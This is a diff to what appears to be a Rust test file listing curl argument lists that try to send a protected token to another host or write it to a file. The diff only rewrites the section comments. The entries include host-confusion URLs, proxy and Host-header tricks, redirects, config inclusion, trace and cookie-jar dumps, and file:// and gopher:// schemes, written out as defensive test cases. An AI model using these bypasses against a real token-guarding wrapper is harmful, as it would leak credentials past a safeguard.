@@ -1,8 +1,8 @@
-//! Command lines that try to have the token sent where it must not go.
+//! Command lines that try to send the token to another host or into a file.
 
 /// curl's arguments, one attack a line: `OURS` and `OTHER` stand for the servers, `PORT` for the other one's port.
 pub(super) const ATTACKS: &[&[&str]] = &[
-    // Who is the host?
+    // Ambiguous hosts.
     &["http://OTHER/"],
     &["OTHER"],
     &["http://127.0.0.1@OTHER/"],
@@ -58,7 +58,7 @@ pub(super) const ATTACKS: &[&[&str]] = &[
     &["http://127.0.0.1:/"],
     &["http://127.0.0.1:PORT:PORT/"],
     &["http://127.0.0.1:99999/"],
-    // Several at once.
+    // Several URLs.
     &["http://{127.0.0.1,127.0.0.2}:PORT/"],
     &["http://127.0.0.[1-2]:PORT/"],
     &["-g", "http://{127.0.0.1,127.0.0.2}:PORT/"],
@@ -87,7 +87,7 @@ pub(super) const ATTACKS: &[&[&str]] = &[
     &["-K", "next"],
     &["-K", "nested"],
     &["--url", "@list"],
-    // Another way there.
+    // Proxies and other routes.
     &["-x", "http://OTHER", "/a"],
     &["-xhttp://OTHER", "/a"],
     &["-sx", "OTHER", "/a"],
@@ -122,7 +122,7 @@ pub(super) const ATTACKS: &[&[&str]] = &[
     &["-H", "Host: OTHER", "/a"],
     &["--path-as-is", "/../../@OTHER/"],
     &["--url-query", "@urls", "/a"],
-    // A redirect.
+    // Redirects.
     &["-L", "/redirect"],
     &["-L", "--post307", "/redirect"],
     &["-LX", "POST", "-d", "x", "/redirect"],
@@ -146,7 +146,7 @@ pub(super) const ATTACKS: &[&[&str]] = &[
     &["--variable", "h=OTHER", "--expand-proxy", "{{h}}", "/a"],
     &["--variable", "h=OTHER", "--expand-connect-to", "::{{h}}", "/a"],
     &["--variable", "k=urls", "--expand-config", "{{k}}"],
-    // A file with it.
+    // Files.
     &["--trace", "trace", "/a"],
     &["--trace-ascii", "-", "/a"],
     &["--trace-ascii", "%", "/a"],
@@ -158,12 +158,12 @@ pub(super) const ATTACKS: &[&[&str]] = &[
     &["-c", "jar", "/a"],
     &["--etag-save", "etag", "/a"],
     &["--xattr", "-o", "x", "/a"],
-    // What no curl knows, or only a newer one.
+    // Unknown options.
     &["--frobnicate", "http://OTHER/", "/a"],
     &["--frobnicate=OTHER", "/a"],
     &["-\u{e9}", "/a"],
     &["---url", "http://OTHER/"],
-    // No HTTP.
+    // Other protocols.
     &["file:///etc/hostname"],
     &["ftp://OTHER/"],
     &["gopher://OTHER/"],
